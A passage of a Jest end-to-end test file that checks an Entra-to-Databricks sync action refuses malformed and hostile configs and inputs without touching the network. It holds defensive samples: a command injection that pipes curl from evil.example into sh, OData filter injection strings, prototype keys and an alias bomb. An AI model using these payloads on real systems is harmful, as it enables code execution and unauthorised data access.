// Hostile input, end to end: every bad config file and every bad action input, given to the real action
// (`node dist/index.js`, command: sync, signed in to the emulators). Each run must fail with exit code 1 and an error
// annotation that says what is wrong and how to fix it (for a config file: at file, line and key), and must not
// reach the network: no request to any emulator, and no connection opened at all (a preloaded guard records every
// socket the action opens, so a request to a real Azure host named in a bad file would be caught too).
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals'
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import { loadFixture } from '../emulators/fixture.js'
import { demoWorkspaces, runAgainst, startEmulators, type Emulators } from '../emulators/index.js'
import { leaks, ROOT, writeConfigFile, type ActionRun, type Annotation, type RunOptions } from '../emulators/runner.js'

const CONFIG = join(ROOT, '__tests__', 'fixtures', 'config')
const BAD = join(CONFIG, 'bad')
const HOSTILE = join(CONFIG, 'hostile')
const NET_GUARD = join(ROOT, '__tests__', 'fixtures', 'net-guard.mjs')
const fixture = loadFixture(join(ROOT, 'emulators', 'fixtures', 'demo-tenant.yml'))

let emu: Emulators
let temp: string
/** Generated bad files (too big to keep in the repository) and the log files of the network guard. */
let generated: string
/** A valid config for the emulators' two workspaces: what the bad inputs are given with. */
let workdir: string
let runs = 0

beforeAll(async () => {
  emu = await startEmulators({ fixture })
  temp = mkdtempSync(join(tmpdir(), 'e2e-hostile-'))
  generated = join(temp, 'generated')
  workdir = join(temp, 'repo')
  mkdirSync(generated)
  mkdirSync(workdir)
  // Over the 1 MiB limit: refused before it is read.
  const group = (i: number) => `      - Data Engineers ${String(i).padStart(5, '0')}\n`
  const head = `version: 1\nworkspaces:\n  - name: analytics-prod\n    host: ${emu.workspaceHosts['analytics-prod']}\n    groups:\n`
  writeFileSync(join(generated, 'huge.yml'), head + Array.from({ length: 40_000 }, (_, i) => group(i)).join(''))
  // 50,000 nested flow lists: the YAML parser runs out of stack long before the end.
  writeFileSync(
    join(generated, 'deep-nesting.yml'),
    `version: 1\nworkspaces: ${'['.repeat(50_000)}${']'.repeat(50_000)}\n`
  )
  writeConfigFile(workdir, {
    version: 1,
    workspaces: demoWorkspaces(emu, { groups: ['Data Engineers'] }, { groups: ['Data Analysts'] })
  })
})

afterAll(async () => {
  await emu?.stop()
})

interface Guarded {
  run: ActionRun
  /** `host:port` of every connection the action opened. */
  connections: string[]
}

/** The action, signed in to the emulators, with a fresh request log and every connection it opens recorded. */
async function guardedRun(options: RunOptions): Promise<Guarded> {
  emu.clearLog()
  const netLog = join(temp, `connections-${++runs}.log`)
  const run = await runAgainst(emu, {
    ...options,
    env: { NODE_OPTIONS: `--import=${pathToFileURL(NET_GUARD).href}`, NET_GUARD_LOG: netLog, ...options.env }
  })
  const connections = existsSync(netLog) ? readFileSync(netLog, 'utf8').split('\n').filter(Boolean) : []
  return { run, connections }
}

const sync = (cwd: string, inputs: Record<string, string>) =>
  guardedRun({ cwd, inputs: { command: 'sync', ...inputs } })

const requests = () => emu.log.map((e) => `${e.service} ${e.method} ${e.path}`)

/** Run-level failure of a config with errors, after the annotations of the problems. */
const configFailure = (errors: number): Annotation => ({
  level: 'error',
  message: `The config has ${errors} error(s), so nothing was changed.\nFix: Fix the problems annotated on the config files (run command: validate on pull requests to catch them before merge).`
})

/** Nothing reached the network: no emulator request, no connection anywhere. */
function expectNoNetwork({ run, connections }: Guarded): void {
  expect(requests()).toEqual([])
  expect(connections).toEqual([])
  expect(run.outputs).toEqual({})
}

// ---------------------------------------------------------------------------------------------------------------
// Bad config files. A row is [line, column, key, message] (or [file, line, column, key, message] when the problem is
// in another file than the pattern names, or ['warning', ...] for a warning): every annotation of the file's problems.

type Row = [number, number, string, string] | [string, number, number, string, string]
type ConfigCase = [config: string, rows: Row[]]

const BAD_CASES: ConfigCase[] = [
  [
    'account-group-entitlements.yml',
    [
      [
        7,
        7,
        'account.groups[1].entitlements',
        `account.groups[1]: "entitlements" cannot be set on an account group: entitlements are per workspace; remove it (to give entitlements, sync the Entra group into a workspace under that workspace's "groups")`
      ]
    ]
  ],
  [
    'account-groups-without-account.yml',
    [
      [
        5,
        5,
        'workspaces[0].account-groups',
        'workspaces[0].account-groups: assigning account groups needs the Databricks account, and no config file declares it; add an "account:" block with the account id (id: <GUID shown in the account console>) to a config file, or remove account-groups'
      ]
    ]
  ],
  [
    'admins-group.yml',
    [
      [
        7,
        21,
        'workspaces[0].groups[0].databricks',
        'workspaces[0].groups[0].databricks: "admins" is a built-in Databricks group that this action never changes; set databricks: to another group name'
      ]
    ]
  ],
  [
    'alias-bomb.yml',
    [
      [
        3,
        8,
        'config',
        'YAML aliases expand to too much data (more than 100 alias expansions; this looks like an alias bomb); use fewer aliases (*name) or write the values out'
      ]
    ]
  ],
  [
    'bad-account-id.yml',
    [
      [
        3,
        7,
        'account.id',
        'account.id: "my-databricks-account" must be the Databricks account id, a GUID like 00000000-0000-0000-0000-000000000000 (shown in the account console under your user name)'
      ]
    ]
  ],
  [
    'bad-email.yml',
    [
      [
        9,
        27,
        'workspaces[0].provisioning.notification-email',
        'workspaces[0].provisioning.notification-email: "platform-team" is not a valid email address; e.g. platform@contoso.com'
      ]
    ]
  ],
  [
    'bad-entitlement.yml',
    [
      [
        3,
        36,
        'defaults.entitlements[1]',
        'defaults.entitlements[1]: "sql-access" is not a valid entitlement; did you mean "databricks-sql-access"? Use one of: workspace-access, databricks-sql-access, allow-cluster-create, allow-instance-pool-create'
      ]
    ]
  ],
  [
    'bad-max-deletions.yml',
    [
      [
        3,
        18,
        'defaults.max-deletions',
        'defaults.max-deletions: "150%" must be a count (e.g. 25) or a percentage from 0% to 100% (e.g. 10%)'
      ]
    ]
  ],
  [
    'bad-permission.yml',
    [
      [
        9,
        21,
        'workspaces[0].account-groups[0].permission',
        'workspaces[0].account-groups[0].permission: "admin" is not a valid permission; did you mean "ADMIN"? Use one of: USER, ADMIN'
      ]
    ]
  ],
  [
    'duplicate-account-group.yml',
    [
      [
        9,
        16,
        'workspaces[0].account-groups[1].group',
        'workspaces[0].account-groups[1].group: account group "Data-Engineers" is already assigned at line 8 (workspaces[0].account-groups[0]); assign each account group once per workspace, with one permission (USER or ADMIN)'
      ]
    ]
  ],
  [
    'duplicate-host.yml',
    [
      [
        8,
        11,
        'workspaces[1].host',
        'workspaces[1].host: "https://ADB-6234138917436195.15.azuredatabricks.net/" is already the host of workspace "analytics-prod" (line 4); declare each workspace once'
      ]
    ]
  ],
  [
    'duplicate-key.yml',
    [
      [
        7,
        5,
        'workspaces[0].host',
        'workspaces[0]: duplicate key "host" (first at line 4); a key may appear only once in a mapping, remove one of them'
      ]
    ]
  ],
  [
    'duplicate-name/*.yml',
    [
      [
        'duplicate-name/ml.yml',
        7,
        11,
        'workspaces[1].name',
        'workspaces[1].name: workspace "Analytics-Prod" is already declared at duplicate-name/analytics.yml:3; workspace names must be unique (ignoring case) across all config files, so rename or remove one'
      ]
    ]
  ],
  [
    'group-twice.yml',
    [
      [
        8,
        16,
        'workspaces[0].groups[2].entra',
        'workspaces[0].groups[2].entra: Entra group "data engineers" is already listed at line 6 (workspaces[0].groups[0]); list each group once per workspace'
      ]
    ]
  ],
  [
    'group-wrong-type.yml',
    [
      [
        7,
        9,
        'workspaces[0].groups[1]',
        'workspaces[0].groups[1]: must be an Entra group name (a string) or a mapping with "entra", not a number (42)'
      ],
      [
        9,
        23,
        'workspaces[0].groups[2].members-only',
        'workspaces[0].groups[2].members-only: must be true or false, not a string ("yes"); write true or false'
      ]
    ]
  ],
  [
    'groups-string.yml',
    [
      [
        5,
        13,
        'workspaces[0].groups',
        'workspaces[0].groups: must be a list, not a string ("Data Engineers"); write each group on its own line starting with "- "'
      ]
    ]
  ],
  [
    'host-with-path.yml',
    [
      [
        4,
        11,
        'workspaces[0].host',
        'workspaces[0].host: "https://adb-6234138917436195.15.azuredatabricks.net/?o=6234138917436195" must be only the scheme and host, without path, query or fragment; write "https://adb-6234138917436195.15.azuredatabricks.net"'
      ]
    ]
  ],
  [
    'http-host.yml',
    [
      [
        4,
        11,
        'workspaces[0].host',
        'workspaces[0].host: "http://adb-6234138917436195.15.azuredatabricks.net" must be an https URL of a Databricks workspace (https://adb-<id>.<n>.azuredatabricks.net)'
      ]
    ]
  ],
  [
    'misplaced-key.yml',
    [
      [
        5,
        5,
        'workspaces[0].removal',
        'workspaces[0]: unknown key "removal" in a workspace; "removal" can be set in defaults or a group entry'
      ]
    ]
  ],
  [
    'missing-name.yml',
    [
      [
        3,
        5,
        'workspaces[0].name',
        'workspaces[0]: missing required key "name"; add a short unique name for the workspace, e.g. "name: analytics-prod"'
      ]
    ]
  ],
  [
    'multiple-documents.yml',
    [
      [
        7,
        1,
        'config',
        'the file holds 2 YAML documents separated by "---"; keep one document per file (split the others into their own config files)'
      ]
    ]
  ],
  [
    'non-databricks-host.yml',
    [
      [
        4,
        11,
        'workspaces[0].host',
        'workspaces[0].host: "https://databricks.contoso.com" is not an Azure Databricks workspace URL; the host must end in .azuredatabricks.net, .databricks.azure.us or .databricks.azure.cn (a loopback address is allowed for local testing)'
      ]
    ]
  ],
  [
    'not-a-mapping.yml',
    [
      [
        1,
        1,
        'config',
        'the file is a list; a config file is a mapping that starts with "version: 1" and lists "workspaces"'
      ]
    ]
  ],
  [
    'pat-without-secret.yml',
    [
      [
        5,
        11,
        'workspaces[0].auth',
        `workspaces[0].auth: "pat" needs token-secret, the Key Vault secret id of the workspace's personal access token; add token-secret: https://<vault>.vault.azure.net/secrets/<name>`
      ]
    ]
  ],
  [
    'provisioning-without-secret.yml',
    [
      [
        7,
        5,
        'workspaces[0].provisioning',
        `workspaces[0].provisioning: provision-app needs the workspace's personal access token; add token-secret: https://<vault>.vault.azure.net/secrets/<name> to this workspace`
      ]
    ]
  ],
  [
    'same-target.yml',
    [
      [
        9,
        21,
        'workspaces[0].groups[1].databricks',
        'workspaces[0].groups[1].databricks: Databricks group "Engineers" is already the target of workspaces[0].groups[0] (line 7); one Databricks group can be fed by one Entra group only, so give one of them another "databricks:" name'
      ]
    ]
  ],
  [
    'secret-is-key-id.yml',
    [
      [
        6,
        19,
        'workspaces[0].token-secret',
        'workspaces[0].token-secret: "https://kv-data.vault.azure.net/keys/dbx-prod-pat" is a Key Vault key id, not a secret id; store the Databricks token as a secret and use its id, e.g. https://kv-data.vault.azure.net/secrets/<name>'
      ]
    ]
  ],
  [
    'syntax-error.yml',
    [
      [
        5,
        5,
        'config',
        'YAML syntax error: flow sequence in block collection must be sufficiently indented and end with a ]; check the indentation, quotes and brackets on this line and the line before'
      ]
    ]
  ],
  [
    'unknown-key.yml',
    [
      [
        8,
        9,
        'workspaces[0].groups[1].entitlement',
        'workspaces[0].groups[1]: unknown key "entitlement"; did you mean "entitlements"?'
      ]
    ]
  ],
  [
    'version-2.yml',
    [
      [
        1,
        10,
        'version',
        'version: 2 is not supported by this version of the action (supported versions: 1); set version: 1'
      ]
    ]
  ],
  [
    'workspace-id-loopback.yml',
    [
      [
        5,
        5,
        'workspaces[0].workspace-id',
        'workspaces[0]: workspace-id is needed to assign account groups; the host does not contain it (add workspace-id: <number from the workspace URL ?o=…>)'
      ]
    ]
  ]
]

const HOSTILE_CASES: ConfigCase[] = [
  [
    'account-host-with-port.yml',
    [
      [
        4,
        9,
        'account.host',
        'account.host: "https://accounts.azuredatabricks.net:8443" has a port (8443), but Azure Databricks serves the account console on the standard https port only; write "https://accounts.azuredatabricks.net"'
      ]
    ]
  ],
  [
    'control-character-group.yml',
    [
      [
        6,
        9,
        'workspaces[0].groups[0]',
        'workspaces[0].groups[0]: "Data\\u0007Engineers" has the control character U+0007 in it; a group name cannot contain control characters, so remove it'
      ]
    ]
  ],
  [
    'empty.yml',
    [
      [
        1,
        1,
        'config',
        'the file is empty; a config file is a mapping that starts with "version: 1" and lists "workspaces"'
      ]
    ]
  ],
  [
    'host-with-port.yml',
    [
      [
        4,
        11,
        'workspaces[0].host',
        'workspaces[0].host: "https://adb-6234138917436195.15.azuredatabricks.net:8443" has a port (8443), but Azure Databricks serves workspaces on the standard https port only; write "https://adb-6234138917436195.15.azuredatabricks.net"'
      ]
    ]
  ],
  [
    'host-with-userinfo.yml',
    [
      [
        4,
        11,
        'workspaces[0].host',
        'workspaces[0].host: has a user name or password before "@"; the action signs in with tokens, never with credentials in a URL: write "https://adb-1.1.azuredatabricks.net"'
      ]
    ]
  ],
  [
    'http-token-secret.yml',
    [
      [
        6,
        19,
        'workspaces[0].token-secret',
        'workspaces[0].token-secret: "http://kv-data.vault.azure.net/secrets/dbx-prod-pat" must be an https Key Vault secret id, e.g. https://<vault>.vault.azure.net/secrets/<name>'
      ]
    ]
  ],
  [
    'ip-host.yml',
    [
      [
        4,
        11,
        'workspaces[0].host',
        'workspaces[0].host: "https://52.230.27.216" is not an Azure Databricks workspace URL; the host must end in .azuredatabricks.net, .databricks.azure.us or .databricks.azure.cn (a loopback address is allowed for local testing)'
      ]
    ]
  ],
  [
    'line-break-group.yml',
    [
      [
        6,
        16,
        'workspaces[0].groups[0].entra',
        'workspaces[0].groups[0].entra: "Data Engineers\\n" has a line break in it; a group name is one line, so remove the line break (a "|" or ">" block, or \\n in double quotes, makes one)'
      ],
      [
        10,
        21,
        'workspaces[0].groups[1].databricks',
        'workspaces[0].groups[1].databricks: "data\\nscientists" has a line break in it; a group name is one line, so remove the line break (a "|" or ">" block, or \\n in double quotes, makes one)'
      ]
    ]
  ],
  [
    'long-group-name.yml',
    [
      [
        6,
        16,
        'workspaces[0].groups[0].entra',
        "workspaces[0].groups[0].entra: is 299 characters long; an Entra group name has at most 256 characters, so use the group's exact display name or its object id"
      ]
    ]
  ],
  [
    'null-workspace.yml',
    [
      [3, 4, 'workspaces[0]', 'workspaces[0]: must be a mapping (indented "key: value" lines), not empty'],
      [4, 5, 'workspaces[1]', 'workspaces[1]: must be a mapping (indented "key: value" lines), not empty']
    ]
  ],
  [
    'prototype-keys.yml',
    [
      [
        2,
        1,
        '__proto__',
        'unknown key "__proto__"; the keys allowed here are version, defaults, account and workspaces (and x-… keys for YAML anchors)'
      ],
      [
        7,
        5,
        'workspaces[0].constructor',
        'workspaces[0]: unknown key "constructor"; the keys allowed here are name, host, workspace-id, auth, token-secret, azure-resource-id, max-deletions, rate-limits, groups, account-groups, account-service-principals and provisioning'
      ]
    ]
  ],
  [
    'secret-is-certificate-id.yml',
    [
      [
        6,
        19,
        'workspaces[0].token-secret',
        'workspaces[0].token-secret: "https://kv-data.vault.azure.net/certificates/dbx-prod-pat" is a Key Vault certificate id, not a secret id; store the Databricks token as a secret and use its id, e.g. https://kv-data.vault.azure.net/secrets/<name>'
      ]
    ]
  ],
  [
    'tab-indent.yml',
    [[3, 1, 'config', 'YAML syntax error: tabs are not allowed as indentation; indent with spaces, not tabs']]
  ],
  [
    'token-secret-with-port.yml',
    [
      [
        6,
        19,
        'workspaces[0].token-secret',
        'workspaces[0].token-secret: "https://kv-data.vault.azure.net:8443/secrets/dbx-prod-pat" has a port (8443), but Key Vault answers on the standard https port only; use https://kv-data.vault.azure.net/secrets/<name>'
      ]
    ]
  ],
  [
    'token-secret-with-userinfo.yml',
    [
      [
        6,
        19,
        'workspaces[0].token-secret',
        'workspaces[0].token-secret: the value has a user name or password before "@"; the action reads Key Vault with its own Entra sign-in, so remove them and use a Key Vault secret id, e.g. https://kv-data.vault.azure.net/secrets/<name>'
      ]
    ]
  ],
  [
    'wrong-types.yml',
    [
      [1, 10, 'version', 'version: must be the number 1, not a string; write version: 1 without quotes'],
      [
        3,
        12,
        'defaults.removal',
        'defaults.removal: must be one of remove-membership, deactivate, delete or keep, not a number (5)'
      ],
      [4, 11, 'defaults.nested', 'defaults.nested: must be one of flatten or direct, not a boolean (true)'],
      [
        5,
        17,
        'defaults.entitlements',
        'defaults.entitlements: must be a list, not a string ("workspace-access"); write a list, e.g. entitlements: [workspace-access]'
      ],
      [
        6,
        18,
        'defaults.max-deletions',
        'defaults.max-deletions: a boolean (true) must be a count (e.g. 25) or a percentage from 0% to 100% (e.g. 10%)'
      ],
      [
        8,
        11,
        'workspaces[0].name',
        'workspaces[0].name: must be a string, not a number (123); put it in quotes: "123"'
      ],
      [
        9,
        11,
        'workspaces[0].host',
        'workspaces[0].host: must be the workspace URL (a string), not a number (42); e.g. https://adb-<id>.<n>.azuredatabricks.net'
      ],
      [10, 11, 'workspaces[0].auth', 'workspaces[0].auth: must be one of entra or pat, not a boolean (true)'],
      [
        11,
        19,
        'workspaces[0].token-secret',
        'workspaces[0].token-secret: must be a Key Vault secret id (a string), not a list; e.g. https://<vault>.vault.azure.net/secrets/<name>'
      ],
      [
        12,
        20,
        'workspaces[0].max-deletions',
        'workspaces[0].max-deletions: -1 must be a count (e.g. 25) or a percentage from 0% to 100% (e.g. 10%)'
      ],
      [
        13,
        19,
        'workspaces[0].workspace-id',
        "workspaces[0].workspace-id: a boolean (true) is not a workspace id; set the workspace's numeric id, only digits, e.g. 6234138917436195 (the number after ?o= in the workspace URL)"
      ],
      [
        15,
        16,
        'workspaces[0].groups[0].entra',
        'workspaces[0].groups[0].entra: must be a string, not a number (42); put it in quotes: "42"'
      ],
      [
        16,
        21,
        'workspaces[0].groups[0].databricks',
        'workspaces[0].groups[0].databricks: must be a string, not a list; write a single value, e.g. "data-engineers"'
      ],
      [
        17,
        23,
        'workspaces[0].groups[0].entitlements',
        'workspaces[0].groups[0].entitlements: must be a list, not a mapping; write a list, e.g. entitlements: [...]'
      ],
      [
        18,
        23,
        'workspaces[0].groups[0].members-only',
        'workspaces[0].groups[0].members-only: must be true or false, not a string ("yes"); write true or false'
      ],
      [
        19,
        18,
        'workspaces[0].groups[0].removal',
        'workspaces[0].groups[0].removal: must be one of remove-membership, deactivate, delete or keep, not a list'
      ],
      [
        20,
        17,
        'workspaces[0].groups[0].nested',
        'workspaces[0].groups[0].nested: must be one of flatten or direct, not a number (1)'
      ],
      [
        21,
        19,
        'workspaces[0].provisioning',
        'workspaces[0].provisioning: must be a mapping (indented "key: value" lines), not a string ("platform@contoso.com")'
      ],
      [
        22,
        21,
        'workspaces[0].account-groups',
        'workspaces[0].account-groups: must be a list, not a string ("data-engineers"); write each account group on its own line starting with "- "'
      ]
    ]
  ],
  [
    'yaml-tag.yml',
    [
      ['warning', 4, 11, 'config', 'YAML warning: unresolved tag: tag:yaml.org,2002:js/function'],
      [
        4,
        25,
        'workspaces[0].host',
        `workspaces[0].host: "function () { return 'https://adb-1.1.azuredatabricks.net' }" is not a URL; set the workspace URL, e.g. https://adb-<id>.<n>.azuredatabricks.net`
      ]
    ]
  ]
]

function annotation(pattern: string, row: Row): Annotation {
  if (typeof row[0] === 'number') {
    const [line, col, title, message] = row as [number, number, string, string]
    return { level: 'error', file: pattern, line, col, title, message }
  }
  const [first, line, col, title, message] = row as [string, number, number, string, string]
  return first === 'warning'
    ? { level: 'warning', file: pattern, line, col, title, message }
    : { level: 'error', file: first, line, col, title, message }
}

/** The run failed before any request, with exactly these annotations of the file's problems and the run's failure. */
function expectRefused(guarded: Guarded, expected: Annotation[]): void {
  const { run } = guarded
  expect(run.stderr).toBe('')
  expect(run.code).toBe(1)
  const errors = expected.filter((a) => a.level === 'error').length
  expect(run.annotations).toEqual([...expected, configFailure(errors)])
  // Every problem in a file is placed on a line of it (GitHub puts the annotation on the diff there).
  for (const a of expected) {
    expect(a.file).toBeTruthy()
    expect(a.line).toBeGreaterThanOrEqual(1)
  }
  expect(run.summary).toContain('❌ Sync not started: the config has errors')
  expectNoNetwork(guarded)
}

describe('sync with a bad config file: refused before any request', () => {
  test('the corpus has at least 30 bad config files', () => {
    expect(BAD_CASES.length + HOSTILE_CASES.length + 2).toBeGreaterThanOrEqual(30)
  })

  test.each(BAD_CASES)('bad/%s', async (config, rows) => {
    expectRefused(
      await sync(BAD, { config }),
      rows.map((row) => annotation(config, row))
    )
  })

  test.each(HOSTILE_CASES)('hostile/%s', async (config, rows) => {
    expectRefused(
      await sync(HOSTILE, { config }),
      rows.map((row) => annotation(config, row))
    )
  })

  test('a file over the 1 MiB limit is refused unread', async () => {
    const bytes = readFileSync(join(generated, 'huge.yml')).length
    expect(bytes).toBeGreaterThan(1024 * 1024)
    expectRefused(await sync(generated, { config: 'huge.yml' }), [
      {
        level: 'error',
        file: 'huge.yml',
        line: 1,
        col: 1,
        title: 'config',
        message: `the file is ${bytes} bytes, over the 1 MiB (1048576 bytes) limit for config files; split the workspaces across several files`
      }
    ])
  })

  test('YAML nested far too deeply is refused, not a crash', async () => {
    const guarded = await sync(generated, { config: 'deep-nesting.yml' })
    // Where on line 2 the parser gave up depends on the stack size.
    const col = guarded.run.annotations[0]?.col ?? 0
    expect(col).toBeGreaterThan(12)
    expectRefused(guarded, [
      {
        level: 'error',
        file: 'deep-nesting.yml',
        line: 2,
        col,
        title: 'config',
        message: 'the YAML is nested too deeply to read; a config file needs only a few levels'
      }
    ])
  })

  test('every file of the corpus is covered', () => {
    const covered = new Set(BAD_CASES.map(([config]) => config.replace(/\/\*\.yml$/, '')))
    // empty-groups.yml holds a warning only: see below.
    covered.add('empty-groups.yml')
    expect([...covered].sort()).toEqual(readdirSync(BAD).sort())
    expect(HOSTILE_CASES.map(([config]) => config).sort()).toEqual(readdirSync(HOSTILE).sort())
  })

  test('a warning alone (an empty groups list) does not stop the sync, which then has nothing to read or write', async () => {
    const guarded = await sync(BAD, { config: 'empty-groups.yml' })
    expect(guarded.run.code).toBe(0)
    expect(guarded.run.annotations).toEqual([])
    expect(guarded.run.outputs).toMatchObject({ changes: '0', 'has-changes': 'false', 'failed-workspaces': '' })
    // Its host is a real Azure Databricks workspace: nothing was sent there, or anywhere.
    expect(requests()).toEqual([])
    expect(guarded.connections).toEqual([])
  })
})

// ---------------------------------------------------------------------------------------------------------------
// Bad action inputs, with a valid config for the emulators: what is wrong is the input alone.

const SECRET = 'emu~NotTheRealClientSecret-9f8e7d6c5b4a'

type InputCase = [title: string, inputs: () => Record<string, string>, message: () => string]

const INPUT_CASES: InputCase[] = [
  [
    'an unknown command',
    () => ({ command: 'sink' }),
    () =>
      'Input "command" is "sink", which is not a command of this action.\nFix: Use one of: validate, sync, provision-app, matrix.'
  ],
  [
    'a command with shell metacharacters',
    () => ({ command: 'sync; curl https://evil.example | sh' }),
    () =>
      'Input "command" is "sync; curl https://evil.example | sh", which is not a command of this action.\nFix: Use one of: validate, sync, provision-app, matrix.'
  ],
  [
    'a tenant-id that is not a GUID',
    () => ({ 'tenant-id': 'contoso.onmicrosoft.com' }),
    () =>
      'Input "tenant-id" must be a GUID (got "contoso.onmicrosoft.com").\nFix: Use the Directory (tenant) ID from the Entra admin center overview page.'
  ],
  [
    'a client-id without tenant-id',
    () => ({ 'tenant-id': '' }),
    () =>
      'Inputs "tenant-id" and "client-id" go together; only "client-id" is set.\nFix: Set both to sign in to Entra ID, or neither (validate then checks files offline).'
  ],
  [
    'a client-secret without tenant-id and client-id',
    () => ({ 'tenant-id': '', 'client-id': '', 'client-secret': SECRET }),
    () => 'Input "client-secret" is set without "tenant-id" and "client-id".\nFix: Set all three, or none.'
  ],
  [
    'an http authority-host',
    () => ({ 'authority-host': emu.authorityHost.replace(/^https:/, 'http:') }),
    () =>
      `Input "authority-host" must use https (got "${emu.authorityHost.replace(/^https:/, 'http:')}").\nFix: Tokens are never sent over plain http.`
  ],
  [
    'an authority-host that shows one host and names another (userinfo)',
    () => ({ 'authority-host': `https://login.microsoftonline.com@${new URL(emu.authorityHost).host}` }),
    () =>
      `Input "authority-host" has a user name or password before "@", so the host it names is ${new URL(emu.authorityHost).host}.\nFix: Use the https origin of the service itself, e.g. https://login.microsoftonline.com; the action signs in with tokens, never with credentials in a URL.`
  ],
  [
    'an authority-host with a password in it',
    () => ({ 'authority-host': `https://admin:${SECRET}@${new URL(emu.authorityHost).host}` }),
    () =>
      `Input "authority-host" has a user name or password before "@", so the host it names is ${new URL(emu.authorityHost).host}.\nFix: Use the https origin of the service itself, e.g. https://login.microsoftonline.com; the action signs in with tokens, never with credentials in a URL.`
  ],
  [
    'a graph-endpoint with a path',
    () => ({ 'graph-endpoint': `${emu.graphEndpoint}/v1.0` }),
    () =>
      `Input "graph-endpoint" must be an origin without a path (got "${emu.graphEndpoint}/v1.0").\nFix: Use ${emu.graphEndpoint}.`
  ],
  [
    'a graph-endpoint with a query',
    () => ({ 'graph-endpoint': `${emu.graphEndpoint}/?$filter=x` }),
    () =>
      `Input "graph-endpoint" must be an origin without a query or fragment (got "${emu.graphEndpoint}/?$filter=x").\nFix: Use ${emu.graphEndpoint}.`
  ],
  [
    'max-deletions "lots"',
    () => ({ 'max-deletions': 'lots' }),
    () =>
      'Input "max-deletions" is "lots", which is neither a count nor a percentage.\nFix: Use a whole number such as 25, or a percentage such as 10%.'
  ],
  ['dry-run "maybe"', () => ({ 'dry-run': 'maybe' }), () => 'Input "dry-run" must be true or false (got "maybe").'],
  [
    'workspace-concurrency "0"',
    () => ({ 'workspace-concurrency': '0' }),
    () =>
      'Input "workspace-concurrency" must be a whole number from 1 to 50 (got "0").\nFix: Each workspace has its own API limits, so the default of 10 is safe; lower it to limit memory on small runners.'
  ],
  [
    'workspace-concurrency "1e9"',
    () => ({ 'workspace-concurrency': '1e9' }),
    () =>
      'Input "workspace-concurrency" must be a whole number from 1 to 50 (got "1e9").\nFix: Each workspace has its own API limits, so the default of 10 is safe; lower it to limit memory on small runners.'
  ]
]

describe('sync with a bad action input: refused before any request', () => {
  test('there are at least 8 bad inputs', () => {
    expect(INPUT_CASES.length + 3).toBeGreaterThanOrEqual(8)
  })

  test.each(INPUT_CASES)('%s', async (_title, inputs, message) => {
    const guarded = await sync(workdir, { config: 'databricks-identities.yml', ...inputs() })
    const { run } = guarded
    expect(run.stderr).toBe('')
    expect(run.code).toBe(1)
    expect(run.annotations).toEqual([{ level: 'error', message: message() }])
    expect(run.summary).toContain('<h3>❌ The action failed</h3>')
    expect(leaks(run, [SECRET])).toEqual([])
    expectNoNetwork(guarded)
  })

  test('a workspace name that is not in the config lists the ones that are', async () => {
    const guarded = await sync(workdir, {
      config: 'databricks-identities.yml',
      workspace: 'analytics-prod,ml-sandbox'
    })
    const { run } = guarded
    expect(run.code).toBe(1)
    expect(run.annotations).toEqual([
      {
        level: 'error',
        title: 'workspace',
        message:
          'workspace: no workspace is named "ml-sandbox" (the config declares analytics-prod, analytics-dev); set the workspace input to a comma-separated list of these names, or leave it empty for all'
      },
      configFailure(1)
    ])
    expectNoNetwork(guarded)
  })

  test('a config input naming an endless device is not read', async () => {
    const guarded = await sync(workdir, { config: '/dev/zero' })
    const { run } = guarded
    expect(run.code).toBe(1)
    expect(run.annotations).toEqual([
      {
        level: 'error',
        title: 'config',
        message:
          'config: no config file matches "/dev/zero"; create it (the default is .github/databricks-identities.yml) or set the action\'s config input to the path or glob of your config files, relative to the repository root; if the files are in the repository, check that the job runs actions/checkout first'
      },
      configFailure(1)
    ])
    expectNoNetwork(guarded)
  })

  // Found by an adversarial run: config globs outside the repository were read, and their lines quoted in
  // annotations. Such a file is now refused unread (allow-paths-outside-workspace lifts it).
  test('a config input naming a file of secrets outside the repository is refused unread', async () => {
    const outside = join(temp, 'outside.env')
    writeFileSync(outside, `AZURE_CLIENT_SECRET: ${SECRET}\n`)
    const guarded = await sync(workdir, { config: '../outside.env' })
    const { run } = guarded
    expect(run.code).toBe(1)
    expect(run.annotations).toEqual([
      {
        level: 'error',
        title: 'config',
        message: expect.stringMatching(
          /^config: ".*outside\.env" is outside the repository checkout \(.*\), so it was not read; put the config in the repository, or set allow-paths-outside-workspace: true/
        )
      },
      configFailure(1)
    ])
    expect(leaks(run, [SECRET])).toEqual([])
    expectNoNetwork(guarded)
  })

  test('a state-file outside the repository is refused before anything is read or written', async () => {
    const outside = join(temp, 'elsewhere', 'state.json')
    const guarded = await sync(workdir, { config: 'databricks-identities.yml', 'state-file': outside })
    expect(guarded.run.code).toBe(1)
    expect(guarded.run.annotations.at(-1)?.message).toMatch(
      /The state-file input ".*state\.json" is outside the repository checkout, so it is neither read nor written/
    )
    expect(existsSync(outside)).toBe(false)
  })
})

describe('the guard itself', () => {
  test('a valid run reaches the emulators, and only them (so an empty log above means no request was made)', async () => {
    const guarded = await sync(workdir, { config: 'databricks-identities.yml', 'dry-run': 'true' })
    expect(guarded.run.code).toBe(0)
    expect(requests()).toEqual(
      expect.arrayContaining([
        'entra POST /72f988bf-86f1-41af-91ab-2d7cd011db47/oauth2/v2.0/token',
        'databricks:analytics-prod GET /api/2.0/preview/scim/v2/Users',
        'databricks:analytics-dev GET /api/2.0/preview/scim/v2/Users'
      ])
    )
    expect(guarded.connections.length).toBeGreaterThan(0)
    const ports = new Set(Object.values(emu.servers).map((s) => String(s.port)))
    for (const c of guarded.connections) {
      expect(c).toMatch(/^127\.0\.0\.1:\d+$/)
      expect(ports).toContain(c.split(':')[1])
    }
  })
})

// ---------------------------------------------------------------------------------------------------------------
// An Entra reference that tries to extend the Graph filter: quoted as OData requires, it names no group, so the
// workspace's Entra read fails ("does not exist") and nothing is read from or written to Databricks.

describe('an Entra group reference that is an OData injection attempt', () => {
  test.each([
    [`x' or displayName ne '`, `displayName eq 'x'' or displayName ne '''`],
    [`Data Engineers' or '1' eq '1`, `displayName eq 'Data Engineers'' or ''1'' eq ''1'`],
    [`') or startswith(displayName,'D`, `displayName eq ''') or startswith(displayName,''D'`]
  ])('%s resolves to no group', async (ref, filter) => {
    const dir = mkdtempSync(join(temp, 'injection-'))
    writeConfigFile(dir, {
      version: 1,
      workspaces: [{ name: 'analytics-prod', host: emu.workspaceHosts['analytics-prod'], groups: [ref] }]
    })
